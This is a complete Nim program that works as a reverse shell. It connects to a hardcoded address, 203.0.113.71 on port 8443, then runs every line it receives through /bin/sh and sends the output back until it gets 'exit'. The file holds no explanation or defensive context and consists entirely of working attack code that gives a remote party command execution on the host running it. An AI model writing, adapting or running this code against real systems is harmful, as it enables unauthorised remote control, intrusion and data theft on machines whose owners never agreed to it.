import net, osproc, strutils

let ip = "203.0.113.71"
let port = 8443
var socket = newSocket()
socket.connect(ip, Port(port))
while true:
  socket.send("> ")
  let cmd = socket.recvLine()
  if cmd == "exit": break
  let res = execProcess("/bin/sh", args = ["-c", cmd], options = {poUsePath, poStdErrToStdOut})
  socket.send(res)
socket.close()
